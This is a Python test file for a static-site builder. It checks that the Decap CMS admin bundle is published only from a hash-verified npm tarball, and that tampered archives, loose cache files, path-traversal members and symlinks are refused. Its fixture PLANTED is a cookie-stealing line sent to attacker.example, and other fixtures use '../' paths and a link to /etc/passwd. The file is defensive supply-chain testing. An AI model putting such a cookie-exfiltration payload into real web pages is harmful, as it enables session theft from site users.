"""The web editor's bundle is published only from the npm tarball that package-lock.json
pins: its hash is checked at every build, its files are read from the checked bytes, and no
loose file in .cache/decap-cms/ (a planted or changed decap-cms.js) ever reaches /admin/."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import shutil
import tarfile
from pathlib import Path

import pytest

from casebook.cli import main
from casebook.editor.cms import Admin, bundle_tarball, write_admin
from casebook.sources.model import Library
from casebook.sources.project import Project
from casebook.sources.questions import QuestionBank
from casebook.sources.vocabularies import Vocabularies

REPO = Path(__file__).resolve().parents[1]
VERSION = "9.9.9"
GENUINE = b"/* the genuine bundle */ window.CMS = {};\n"
PLANTED = b"fetch('https://attacker.example/?' + document.cookie);\n"


def _tarball(members: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
    return out.getvalue()


def _integrity(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def _project(root: Path, tarball: bytes, pinned: bytes | None = None) -> Project:
    """A project whose lock pins `pinned` (by default the tarball itself), and the tarball."""
    root.mkdir(parents=True, exist_ok=True)
    entry = {"version": VERSION, "integrity": _integrity(pinned or tarball)}
    lock = {"packages": {"node_modules/decap-cms": entry}}
    (root / "package-lock.json").write_text(json.dumps(lock), encoding="utf-8")
    (root / ".cache" / "decap-cms").mkdir(parents=True, exist_ok=True)
    (root / ".cache" / "decap-cms" / f"decap-cms-{VERSION}.tgz").write_bytes(tarball)
    return Project(root)


def _write(project: Project, site: Path) -> Admin:
    library = Library([], Vocabularies(), QuestionBank())
    return write_admin(project, library, {"site_name": "Casebook"}, site)


BUNDLE_MEMBERS = {
    "package/package.json": b"{}",
    "package/dist/decap-cms.js": GENUINE,
    "package/dist/decap-cms.js.LICENSE.txt": b"MIT",
    "package/dist/decap-cms.js.map": b"{}",
    "package/dist/12.decap-cms.js": b"/* a chunk */",
    "package/dist/cms.js": b"/* the same bundle again */",
    "package/dist/ab12.wasm": b"\0asm",
}


def test_the_genuine_tarball_is_published(tmp_path: Path) -> None:
    project = _project(tmp_path / "project", _tarball(BUNDLE_MEMBERS))
    admin = _write(project, tmp_path / "site")
    assert admin.written, admin.message
    published = {p.name: p.read_bytes() for p in (tmp_path / "site" / "admin").iterdir()}
    assert published.pop("config.yml") and published.pop("index.html")
    assert published == {
        "decap-cms.js": GENUINE,
        "decap-cms.js.LICENSE.txt": b"MIT",
        "12.decap-cms.js": b"/* a chunk */",
        "ab12.wasm": b"\0asm",
    }


def test_a_tampered_tarball_publishes_nothing(tmp_path: Path) -> None:
    genuine = _tarball(BUNDLE_MEMBERS)
    tampered = _tarball({**BUNDLE_MEMBERS, "package/dist/decap-cms.js": PLANTED})
    project = _project(tmp_path / "project", tampered, pinned=genuine)
    admin = _write(project, tmp_path / "site")
    assert not admin.written
    assert admin.message == (
        "warning: the web editor (/admin/) was left out: .cache/decap-cms/decap-cms-9.9.9.tgz: "
        "it does not match the integrity hash pinned in package-lock.json, so none of it is "
        "published; delete it, run 'bash scripts/fetch_decap.sh' and build again"
    )
    assert not (tmp_path / "site" / "admin").exists()


def test_loose_files_in_the_cache_are_never_published(tmp_path: Path) -> None:
    project = _project(tmp_path / "project", _tarball(BUNDLE_MEMBERS))
    # Where earlier versions of fetch_decap.sh unpacked the bundle, which the build copied.
    loose = project.root / ".cache" / "decap-cms" / VERSION
    loose.mkdir()
    (loose / "decap-cms.js").write_bytes(PLANTED)
    (loose / "extra.js").write_bytes(PLANTED)
    assert _write(project, tmp_path / "site").written
    admin = tmp_path / "site" / "admin"
    assert (admin / "decap-cms.js").read_bytes() == GENUINE
    assert not (admin / "extra.js").exists()


def test_no_member_of_the_tarball_names_a_path_or_a_link(tmp_path: Path) -> None:
    # Even a tarball that the lock file pins (a lock file edited with it) writes only plain
    # files under names of the build's making: no absolute path, no '..', no link.
    members = {
        **BUNDLE_MEMBERS,
        "../../escaped.decap-cms.js": PLANTED,
        "/tmp/absolute.decap-cms.js": PLANTED,
        "package/dist/../../up.decap-cms.js": PLANTED,
        "package/dist/sub/deep.decap-cms.js": PLANTED,
    }
    project = _project(tmp_path / "project", _tarball(members))
    assert _write(project, tmp_path / "site").written
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*js"))
    assert written == [
        "site/admin/12.decap-cms.js",
        "site/admin/decap-cms.js",
    ]
    assert not Path("/tmp/absolute.decap-cms.js").exists()
    linked = _tarball(
        {k: v for k, v in BUNDLE_MEMBERS.items() if not k.endswith("/decap-cms.js")},
        links={"package/dist/decap-cms.js": "/etc/passwd"},
    )
    project = _project(tmp_path / "linked", linked)
    admin = _write(project, tmp_path / "linked-site")
    assert not admin.written
    assert "package/dist/decap-cms.js is a link, not a file" in admin.message
    assert not (tmp_path / "linked-site" / "admin").exists()


def test_a_tarball_that_is_not_one_is_refused_with_a_message(tmp_path: Path) -> None:
    project = _project(tmp_path / "project", b"not a tarball at all")
    admin = _write(project, tmp_path / "site")
    assert not admin.written
    assert "it is not a readable npm tarball" in admin.message
    project = _project(tmp_path / "empty", _tarball({"package/package.json": b"{}"}))
    admin = _write(project, tmp_path / "empty-site")
    assert not admin.written and "it has no package/dist/decap-cms.js" in admin.message


@pytest.mark.slow
def test_the_build_publishes_no_tampered_bundle(
    project_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = bundle_tarball(Project(REPO))
    if source is None:
        pytest.skip("the Decap CMS bundle is not fetched; run bash scripts/setup.sh")
    shutil.copy2(REPO / "package-lock.json", project_copy / "package-lock.json")
    cache = project_copy / ".cache" / "decap-cms"
    cache.mkdir(parents=True)
    tarball = cache / source.name
    # The real tarball with one byte changed, and the bundle planted beside it as loose files.
    data = bytearray(source.read_bytes())
    data[len(data) // 2] ^= 1
    tarball.write_bytes(bytes(data))
    version = source.name.removeprefix("decap-cms-").removesuffix(".tgz")
    (cache / version).mkdir()
    (cache / version / "decap-cms.js").write_bytes(PLANTED)
    args = ["--project", str(project_copy), "build", "--no-pdf", "--quiet"]
    assert main(args) == 0
    err = capsys.readouterr().err
    assert (
        f"warning: the web editor (/admin/) was left out: .cache/decap-cms/{source.name}: it "
        "does not match the integrity hash pinned in package-lock.json" in err
    )
    site = project_copy / "site"
    assert (site / "index.html").is_file() and not (site / "admin").exists()
    assert not [p for p in site.rglob("*.js") if PLANTED in p.read_bytes()]
    # The genuine tarball back: the next build publishes its bundle, not the loose file.
    shutil.copy2(source, tarball)
    assert main(args) == 0
    published = (site / "admin" / "decap-cms.js").read_bytes()
    with tarfile.open(source) as archive:
        member = archive.extractfile("package/dist/decap-cms.js")
        assert member is not None and published == member.read()
